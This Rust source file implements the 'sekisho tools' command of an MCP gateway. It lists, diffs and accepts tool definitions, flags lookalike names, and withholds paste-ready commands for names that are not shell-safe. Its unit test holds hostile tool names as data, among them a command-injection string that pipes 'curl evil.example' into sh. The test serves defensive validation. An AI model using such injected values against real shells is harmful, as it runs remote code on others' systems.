//! What `sekisho tools` shows.

use comfy_table::{ContentArrangement, Table, presets};
use resource_server::definitions::{Definition, alike, changes, findings};
use serde_json::{Value, json};
use store::{AcceptedBy, SeenDefinition, ToolList, ToolRecord};

use crate::commands::docs::{moment, when};
use crate::words::tools::{change, finding, name, place, print, short};

const NOTHING: &str = "No tool is known. One is when a client first asks the MCP server for its list.\n";

fn read(seen: &SeenDefinition) -> Option<Definition> {
    Definition::read(&seen.text).ok()
}

/// What the tool says now, whether or not it counts.
fn newest(tool: &ToolRecord) -> Option<&SeenDefinition> {
    tool.waiting.as_ref().or_else(|| tool.accepted.as_ref().map(|accepted| &accepted.definition))
}

fn twice(seen: Option<&SeenDefinition>) -> usize {
    seen.and_then(read).map_or(0, |definition| findings(&definition).len())
}

const fn by(by: AcceptedBy) -> &'static str {
    match by {
        AcceptedBy::Following => "followed",
        AcceptedBy::Operator => "accepted by an operator",
    }
}

/// What a tool says of what it does.
fn hint(tool: &ToolRecord) -> &'static str {
    let reads = |seen: &SeenDefinition| read(seen).is_some_and(|definition| definition.read_only());
    match (
        tool.accepted.as_ref().map(|accepted| reads(&accepted.definition)),
        tool.waiting.as_ref().map(reads),
    ) {
        (Some(true), None | Some(true)) | (None, Some(true)) => "reads",
        (Some(false), None | Some(false)) | (None, Some(false)) => "writes",
        (Some(true), Some(false)) => "reads, waits to write",
        (Some(false), Some(true)) => "writes, waits to read",
        (None, None) => "",
    }
}

/// The tools, those that wait first.
pub(super) fn list(servers: &[(String, ToolList)]) -> String {
    if servers.iter().all(|(_, list)| list.tools.is_empty()) {
        return NOTHING.to_owned();
    }
    let mut table = Table::new();
    table.load_style(presets::NOTHING).set_content_arrangement(ContentArrangement::Disabled);
    table.set_header(["SERVER", "TOOL", "STATE", "IT", "FINGERPRINT", "SINCE", "LOOK TWICE"]);
    let mut waiting = 0;
    for (server, list) in servers {
        let mut tools: Vec<_> = list.tools.iter().collect();
        tools.sort_by_key(|tool| tool.waiting.is_none());
        for tool in tools {
            let (state, seen, since) = match (&tool.waiting, &tool.accepted) {
                (Some(new), Some(_)) => ("changed, waits".to_owned(), Some(new), Some(new.seen_at)),
                (Some(new), None) => ("new, waits".to_owned(), Some(new), Some(new.seen_at)),
                (None, Some(old)) => (by(old.by).to_owned(), Some(&old.definition), Some(old.at)),
                (None, None) => (String::new(), None, None),
            };
            waiting += usize::from(tool.waiting.is_some());
            let found = twice(newest(tool));
            table.add_row([
                server.clone(),
                name(&tool.tool),
                state,
                hint(tool).to_owned(),
                seen.map(|seen| short(&seen.fingerprint)).unwrap_or_default(),
                since.map(when).unwrap_or_default(),
                if found == 0 { String::new() } else { found.to_string() },
            ]);
        }
    }
    let mut text = format!("{table}\n");
    for (server, list) in servers {
        // Of many, the numbers say where to look.
        if let ([_], tools) = (servers, &list.tools) {
            for tool in tools {
                text.extend(said(newest(tool)).map(|found| format!("! {}: {found}\n", name(&tool.tool))));
            }
        }
        for (one, other) in alike(list.tools.iter().map(|tool| tool.tool.as_str())) {
            text.push_str(&format!(
                "! {server}: {} and {} could be taken for each other\n",
                name(one),
                name(other)
            ));
        }
    }
    if servers.len() > 1
        && servers.iter().flat_map(|(_, list)| &list.tools).any(|tool| twice(newest(tool)) > 0)
    {
        text.push_str("What to look at twice: sekisho tools list SERVER\n");
    }
    if waiting > 0 {
        text.push_str(&format!("\n{waiting} wait: `sekisho tools diff` shows what they say.\n"));
    }
    text
}

/// What the tools that wait say otherwise.
pub(super) fn diff(servers: &[(String, ToolList)]) -> String {
    let mut text = String::new();
    for (server, list) in servers {
        for tool in &list.tools {
            if let Some(waiting) = &tool.waiting {
                text.push_str(&waits(server, tool, waiting, list));
            }
        }
    }
    if text.is_empty() {
        return "Nothing waits.\n".to_owned();
    }
    text
}

fn waits(server: &str, tool: &ToolRecord, waiting: &SeenDefinition, list: &ToolList) -> String {
    let since = when(waiting.seen_at);
    let before = tool.accepted.as_ref().and_then(|accepted| read(&accepted.definition));
    let kind = if before.is_some() { "is changed" } else { "is new" };
    let mut text = format!("{server} {}: {kind}, waits since {since} UTC\n", name(&tool.tool));
    let Some(after) = read(waiting) else { return text };
    // What is new is all of it, beside nothing but its name.
    let nothing = json!({ "name": tool.tool }).to_string();
    if let Some(before) = before.or_else(|| Definition::read(&nothing).ok()) {
        text.extend(changes(&before, &after).iter().map(change));
    }
    text.extend(findings(&after).iter().map(|found| format!("  ! {}\n", finding(found))));
    text.extend(taken_for(tool, list).iter().map(|other| {
        let known = if other.accepted.is_some() { "was accepted" } else { "waits too" };
        format!("  ! its name could be taken for {}, which {known}\n", name(&other.tool))
    }));
    let print = print(&waiting.fingerprint);
    // A line to paste holds nothing of the MCP server's that a shell could read.
    text.push_str(&if is_plain(&tool.tool) {
        format!("  accept it: sekisho tools accept {server} {}@{print}\n\n", tool.tool)
    } else {
        format!("  fingerprint {print}; its name is nothing to paste into a shell\n\n")
    });
    text
}

/// As MCP 2025-11-25, "Tool Names", has it.
fn is_plain(tool: &str) -> bool {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-');
    !tool.starts_with('-') && tool.bytes().all(fits)
}

/// What was accepted.
pub(super) fn accepted(server: &str, put: &[ToolRecord]) -> String {
    let mut text = format!(
        "Accepted {} of {server}:\n",
        if put.len() == 1 { "1 tool".to_owned() } else { format!("{} tools", put.len()) }
    );
    for tool in put {
        let Some(accepted) = &tool.accepted else { continue };
        let (name, short) = (name(&tool.tool), short(&accepted.definition.fingerprint));
        let found = match twice(Some(&accepted.definition)) {
            0 => String::new(),
            1 => ", 1 thing to look at twice".to_owned(),
            many => format!(", {many} things to look at twice"),
        };
        text.push_str(&format!("  {name}@{short}, {}{found}\n", hint(tool)));
    }
    text.push_str("Every node hears of it within seconds. Clients see it when they next ask for the list.\n");
    text
}

/// What is to be looked at twice, in words.
fn said(seen: Option<&SeenDefinition>) -> impl Iterator<Item = String> {
    let found = seen.and_then(read).map(|definition| findings(&definition)).unwrap_or_default();
    found.into_iter().map(|found| finding(&found))
}

/// The tools for which this one could be taken.
fn taken_for<'l>(tool: &ToolRecord, list: &'l ToolList) -> Vec<&'l ToolRecord> {
    let others = list.tools.iter().filter(|other| other.tool != tool.tool);
    others.filter(|other| !alike([other.tool.as_str(), tool.tool.as_str()]).is_empty()).collect()
}

fn seen_json(seen: &SeenDefinition) -> Value {
    let found = read(seen).map(|definition| findings(&definition)).unwrap_or_default();
    json!({
        "fingerprint": print(&seen.fingerprint),
        "seen_at": moment(seen.seen_at),
        "definition": serde_json::from_str::<Value>(&seen.text).unwrap_or_default(),
        "look_twice": found.iter().map(finding).collect::<Vec<_>>(),
    })
}

fn tool_json(server: &str, tool: &ToolRecord, list: &ToolList) -> Value {
    let accepted = tool.accepted.as_ref();
    let alike: Vec<_> = taken_for(tool, list).into_iter().map(|other| other.tool.as_str()).collect();
    json!({
        "could_be_taken_for": alike,
        "server": server,
        "tool": tool.tool,
        "first_seen_at": moment(tool.first_seen_at),
        "accepted": accepted.map(|accepted| seen_json(&accepted.definition)),
        "accepted_at": accepted.map(|accepted| moment(accepted.at)),
        "accepted_by": accepted.map(|accepted| match accepted.by {
            AcceptedBy::Following => "following",
            AcceptedBy::Operator => "operator",
        }),
        "waiting": tool.waiting.as_ref().map(seen_json),
    })
}

/// All of the tools.
pub(super) fn list_json(servers: &[(String, ToolList)]) -> String {
    let tools = servers
        .iter()
        .flat_map(|(server, list)| list.tools.iter().map(move |tool| tool_json(server, tool, list)));
    format!("{}\n", json!({ "tools": tools.collect::<Vec<_>>() }))
}

/// The tools that wait, and what they say otherwise.
pub(super) fn diff_json(servers: &[(String, ToolList)]) -> String {
    let waits = |server: &str, tool: &ToolRecord, list: &ToolList| {
        let (before, after) = (tool.accepted.as_ref().map(|it| &it.definition), tool.waiting.as_ref()?);
        let all = match (before.and_then(read), read(after)) {
            (Some(before), Some(after)) => changes(&before, &after),
            (_, _) => Vec::new(),
        };
        let told = all.iter().map(|change| {
            json!({ "place": place(&change.path), "path": change.path, "before": change.before, "after": change.after })
        });
        let mut tool = tool_json(server, tool, list);
        if let Some(members) = tool.as_object_mut() {
            members.insert("changes".to_owned(), told.collect::<Vec<_>>().into());
        }
        Some(tool)
    };
    let tools = servers
        .iter()
        .flat_map(|(server, list)| list.tools.iter().filter_map(move |tool| waits(server, tool, list)));
    format!("{}\n", json!({ "tools": tools.collect::<Vec<_>>() }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_reads_is_in_no_line_to_paste() {
        for name in ["echo", "files.read", "a_b-c.D9"] {
            assert!(is_plain(name), "{name}");
        }
        for name in
            ["x'; curl evil.example|sh; '", "$(id)", "`id`", "a b", "a\nb", "-rf", "caf\u{e9}", "a@b", "a/b"]
        {
            assert!(!is_plain(name), "{name}");
        }
    }
}
